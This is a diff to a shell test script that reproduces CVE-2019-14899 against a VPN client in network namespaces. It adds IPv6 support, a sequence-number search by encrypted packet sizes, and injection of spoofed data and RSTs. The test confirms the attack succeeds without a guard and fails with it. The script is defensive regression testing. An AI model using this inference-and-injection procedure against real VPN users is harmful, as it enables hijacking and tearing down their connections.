@@ -1,8 +1,9 @@
 #!/bin/sh
 # SPDX-License-Identifier: GPL-2.0
 # CVE-2019-14899 as it was published: a neighbour finds out which address the tunnel has,
-# then which connection goes through it, by the size of what the client sends encrypted,
-# and ends that connection. Without the guard all of it works, with it nothing is seen.
+# then which connection goes through it and which byte that waits for, all by what the client
+# sends encrypted; puts data of its own into that connection, and ends it. Without the guard all
+# of it works, with it nothing is seen, and nothing happens even to who knows the numbers.
 # The reverse-path filter is loose, as systemd had set it.
 
 . "$(dirname "$0")/../lib.sh"
@@ -13,8 +14,15 @@ topo_up
 sysctl_set "$client" 2 'ipv4/conf/*/rp_filter'
 client_mac=$(mac "$client" lan)
 
-ip netns exec "$server" socat TCP4-LISTEN:80,bind=198.51.100.1,fork,reuseaddr EXEC:cat &
-server_pid=$!
+# The kernel answers a connection's wrong packets twice in a second, for which the neighbour
+# would have to wait each time.
+sysctl_set "$client" 0 ipv4/tcp_invalid_ratelimit
+
+server_pid=''
+for address in TCP4-LISTEN:80,bind=198.51.100.1 TCP6-LISTEN:80,bind=[2001:db8:100::1]; do
+	ip netns exec "$server" socat $address,fork,reuseaddr EXEC:cat &
+	server_pid="$server_pid $!"
+done
 client_pid='' spy_pid=''
 
 cleanup() {
@@ -24,14 +32,17 @@ cleanup() {
 } 2>/dev/null
 
 # What the neighbour, and whoever is on the way, can see. Handshakes and keepalives of
-# WireGuard are not about what is in the tunnel; they have 176, 120 and 60 bytes.
+# WireGuard are not about what is in the tunnel; they have 176, 120 and 60 bytes. What is
+# larger than a kilobyte is of probe().
 watch_lan() {
 	on "$neighbour" nft -f - <<-EOF
 		table inet spy {
 			set answers { typeof ip saddr . tcp flags; flags dynamic; }
+			set answers6 { typeof ip6 saddr . tcp flags; flags dynamic; }
 			chain in {
 				type filter hook prerouting priority raw
 				ip saddr 10.2.0.0/24 meta l4proto tcp update @answers { ip saddr . tcp flags } drop
+				ip6 saddr fd02::/64 meta l4proto tcp update @answers6 { ip6 saddr . tcp flags } drop
 			}
 		}
 	EOF
@@ -40,7 +51,7 @@ watch_lan() {
 			set sizes { typeof meta length; flags dynamic; }
 			chain in {
 				type filter hook prerouting priority raw
-				iifname lan udp dport 51820 meta length != { 60, 120, 176 } update @sizes { meta length }
+				iifname lan udp dport 51820 meta length != { 60, 120, 176 } meta length < 1000 update @sizes { meta length }
 			}
 		}
 	EOF
@@ -53,40 +64,47 @@ spied() {
 	on "$1" nft flush set inet spy "$2"
 }
 
-# probe LINE...: the neighbour sends them; the client has answered when this returns
+# probe LINE...: the neighbour sends them; the client has answered when this returns, also
+# through the tunnel, where a packet of its own comes after the answers
 probe() {
 	printf '%s\n' "$@" | on "$neighbour" send-packets lan "$client_mac" >/dev/null
 	ping_through "$neighbour" 192.168.44.2 >/dev/null
+	on "$client" ping -n -q -c 1 -W 8 -s 1200 198.51.100.1 >/dev/null
 }
 
 connected() {
-	[ -d /proc/$client_pid ] && on "$client" ss -Htn state established | grep -q 10.2.0.2:40000
+	[ -d "/proc/$client_pid" ] && on "$client" ss -Htn state established | grep -qF "$here:40000"
 }
 
-# connect: the client's connection, which says nothing; its next byte is $next
+# connect: the client's connection, which says nothing any more; it waits for the byte $next, and
+# has sent all before $sent. These are so many that whoever has the last but 64 KB for the last
+# may still be the server (RFC 5961, 5.2).
 connect() {
 	# not by "on", so that $! is the program and not a shell around it
-	ip netns exec "$server" tcpdump -Z root -l -n -S -i wg0 'tcp src port 40000' \
+	ip netns exec "$server" tcpdump -Z root -l -n -S -i wg0 'src port 40000' \
 		>"$tmp/tcpdump" 2>"$tmp/tcpdump.log" &
 	spy_pid=$!
 	wait_for 20 grep -q listening "$tmp/tcpdump.log"
 	rm -f "$tmp/input"
 	mkfifo "$tmp/input"
-	ip netns exec "$client" socat "TCP4:198.51.100.1:80,bind=10.2.0.2:40000,reuseaddr" - <"$tmp/input" >"$tmp/output" 2>&1 &
+	ip netns exec "$client" socat "TCP$family:$there:80,bind=$here:40000,reuseaddr" - \
+		<"$tmp/input" >"$tmp/heard" 2>&1 &
 	client_pid=$!
 	exec 3>"$tmp/input"
+	head -c 100000 /dev/zero | tr '\0' . >&3
 	echo first >&3
-	wait_for 10 grep -q first "$tmp/output"
+	wait_for 10 grep -q first "$tmp/heard"
 	wait_for 10 connected
 	# its acknowledgement of that
 	sleep 0.5
 	kill $spy_pid
 	next=$(sed -n 's/.* ack \([0-9]*\),.*/\1/p' "$tmp/tcpdump" | tail -n 1)
+	sent=$(sed -n 's/.* seq [0-9]*:\([0-9]*\),.*/\1/p' "$tmp/tcpdump" | tail -n 1)
 }
 
-# goes_on: nobody reads what is said to a connection that has ended
+# goes_on WORD: nobody reads what is said to a connection that has ended
 goes_on() {
-	connected && echo second >&3 && wait_for 10 grep -q second "$tmp/output"
+	connected && echo "$1" >&3 && wait_for 10 grep -q "$1" "$tmp/heard"
 }
 
 disconnect() {
@@ -95,63 +113,158 @@ disconnect() {
 	wait $client_pid 2>/dev/null || :
 }
 
-# sizes_by_port: of what the client sends encrypted when somebody claims to be the
-# server and wants a new connection from each of these ports
-sizes_by_port() {
-	for port in 39999 40000 40001; do
-		probe "$(ip4 198.51.100.1 10.2.0.2 "$(tcp 80 $port 1 0 02)")"
-		echo "$port:$(spied "$router" sizes)"
-	done
+# from_server TCP: a packet that claims to be the server's
+from_server() {
+	"ip$family" "$peer" "$own" "$1"
 }
 
 candidates() {
 	for n in 1 2 3 4; do
-		ip4 192.168.44.3 10.2.0.$n "$(tcp 5000 5001 1 1 12)"
+		case $family in
+		4) ip4 192.168.44.3 10.2.0.$n "$(tcp 5000 5001 1 1 12)" ;;
+		6) ip6 fd44::3 fd02::$n "$(tcp 5000 5001 1 1 12)" ;;
+		esac
 	done
 }
 
-watch_lan
-for mode in open kmod nft; do
-	case $mode in
-	open) client_up kmod 4 "#wgmark Guard = no" ;;
-	*) client_up $mode 4 ;;
-	esac
-	ping_through "$client" 198.51.100.1 >/dev/null
-	connect
+# sizes_by_port: of what the client sends encrypted when somebody claims to be the
+# server and wants a new connection from each of these ports
+sizes_by_port() {
+	for port in 39999 40000 40001; do
+		probe "$(from_server "$(tcp 80 $port 1 0 02)")"
+		echo "$port:$(spied "$router" sizes)"
+	done
+}
 
-	spied "$neighbour" answers >/dev/null
-	probe "$(candidates)"
-	answers=$(spied "$neighbour" answers)
-	spied "$router" sizes >/dev/null
-	sizes=$(sizes_by_port)
-	verdict "which address does the tunnel have" "${answers:-nothing to see}"
-	verdict "which port does a connection have, by the size of answers" "$(echo $sizes)"
-	case $mode in
-	open)
-		is "$answers" 10.2.0.2.0x4 "$mode: of four addresses the tunnel's one answers, with RST"
-		is "$sizes" "39999:108
-40000:124
-40001:108" "$mode: the connection's port shows by the size of the answer"
-		;;
-	*)
-		is "$answers" "" "$mode: no address answers"
-		is "$sizes" "39999:
-40000:
-40001:" "$mode: no port shows"
-		;;
+# A number is looked for in a sixteenth of all that there are, as the other fifteen would take
+# the same again; and in steps of less than the 64 KB that a connection is ready to receive.
+step=32768 steps=8192
+
+# sixteenth NUMBER: where the one begins that has it in its middle, or near that
+sixteenth() {
+	echo $(($1 - step * steps / 2 - 1000))
+}
+
+# numbered TCP FROM COUNT: for each of so many steps the packet, whose TCP has %08x for a number
+numbered() {
+	_packet=$(from_server "$1")
+	_n=0
+	while [ $_n -lt "$3" ]; do
+		# shellcheck disable=SC2059
+		printf "$_packet\n" $((($2 + step * _n) & 0xffffffff))
+		_n=$((_n + 1))
+	done
+}
+
+# expected FROM COUNT: is one of these numbers, at which somebody claims to be the server and to
+# have lost the connection, of a byte that the client may get yet? Then it asks whether that is
+# so (RFC 5961, 3.2), and if it is the very next it believes it.
+expected() {
+	probe "$(numbered "06:00509c40.%08x.00000000.50040400.00000000" "$1" "$2")"
+	[ "$(spied "$router" sizes)" != "" ]
+}
+
+# search: sets $found to a number shortly before the next byte of the connection
+search() {
+	found=$(sixteenth "$next")
+	_count=$steps
+	expected "$found" $_count || return 1
+	while [ $_count -gt 1 ]; do
+		_count=$((_count / 2))
+		expected "$found" $_count || found=$((found + step * _count))
+	done
+	# not those of the step before, but this one
+	_above=$found
+	found=$((found - step))
+	while [ $((_above - found)) -gt 16 ]; do
+		_middle=$(((_above + found) / 2))
+		if expected $_middle 1; then
+			_above=$_middle
+		else
+			found=$_middle
+		fi
+	done
+}
+
+# inject NUMBER: 32 bytes for the connection, of which the last 16 or more are new to it, and
+# which acknowledge one number after the other
+inject() {
+	probe "$(numbered "06:00509c40.$(printf %08x $(($1 & 0xffffffff))).%08x.50180400.00000000$text" \
+		"$(sixteenth "$sent")" $steps)"
+}
+injected() {
+	grep -q 'not by server' "$tmp/heard"
+}
+text=$(printf '................not by server...' | od -An -v -tx1 | tr -d ' \n')
+
+watch_lan
+for family in 4 6; do
+	case $family in
+	4) own=10.2.0.2 peer=198.51.100.1 here=$own there=$peer answers=answers rst_size=108 ack_size=124 ;;
+	6) own=fd02::2 peer=2001:db8:100::1 here=[$own] there=[$peer] answers=answers6 rst_size=124 ack_size=140 ;;
 	esac
-	check "$mode: the connection is there" connected
-	probe "$(ip4 198.51.100.1 10.2.0.2 "$(tcp 80 40000 "$next" 0 04)")"
-	connected && rst="it goes on" || rst="it ends"
-	verdict "RST for a connection" "$rst"
-	if [ $mode = open ]; then
-		check_fails "$mode: the neighbour's RST ends the connection" connected
-	else
-		check "$mode: the neighbour's RST does not end the connection" connected
-		check "$mode: and it goes on" goes_on
-	fi
-	disconnect
-	client_down
+	for mode in open kmod nft; do
+		case $mode in
+		open) client_up kmod 4 "#wgmark Guard = no" ;;
+		*) client_up $mode 4 ;;
+		esac
+		ping_through "$client" $peer >/dev/null
+		connect
+		what="$mode, IPv$family:"
+
+		spied "$neighbour" $answers >/dev/null
+		probe "$(candidates)"
+		seen=$(spied "$neighbour" $answers)
+		verdict "which address of IPv$family does the tunnel have" "${seen:-nothing to see}"
+		spied "$router" sizes >/dev/null
+		sizes=$(sizes_by_port)
+		verdict "which port does a connection of IPv$family have, by the size of answers" "$(echo $sizes)"
+		case $mode in
+		open)
+			is "$seen" "$own.0x4" "$what of four addresses the tunnel's one answers, with RST"
+			is "$sizes" "39999:$rst_size
+40000:$ack_size
+40001:$rst_size" "$what the connection's port shows by the size of the answer"
+			check "$what so does which byte it waits for" search
+			is $((next - found >= 0 && next - found <= 16)) 1 "$what to within 16"
+			byte="known to within 16"
+			;;
+		*)
+			is "$seen" "" "$what no address answers"
+			is "$sizes" "39999:
+40000:
+40001:" "$what no port shows"
+			check_fails "$what nor which byte it waits for" search
+			found=$((next - 16))
+			byte="nothing to see"
+			;;
+		esac
+		verdict "which byte does a connection of IPv$family wait for" "$byte"
+		check "$what the connection is there" connected
+
+		inject $found
+		if [ $mode = open ]; then
+			check "$what the neighbour's data is taken for the server's" wait_for 10 injected
+			end=$((found + 32))
+		else
+			check "$what the connection goes on after the neighbour's data" goes_on second
+			check_fails "$what which was not taken for the server's" injected
+			end=$next
+		fi
+		injected && data="read" || data="not read"
+		verdict "data for a connection of IPv$family" "$data"
+		probe "$(from_server "$(tcp 80 40000 $((end & 0xffffffff)) 0 04)")"
+		connected && rst="it goes on" || rst="it ends"
+		verdict "RST for a connection of IPv$family" "$rst"
+		if [ $mode = open ]; then
+			check_fails "$what the neighbour's RST ends the connection" connected
+		else
+			check "$what the neighbour's RST does not end the connection" connected
+			check "$what and it goes on" goes_on third
+		fi
+		disconnect
+		client_down
+	done
 done
 
 proof "the probes of CVE-2019-14899"
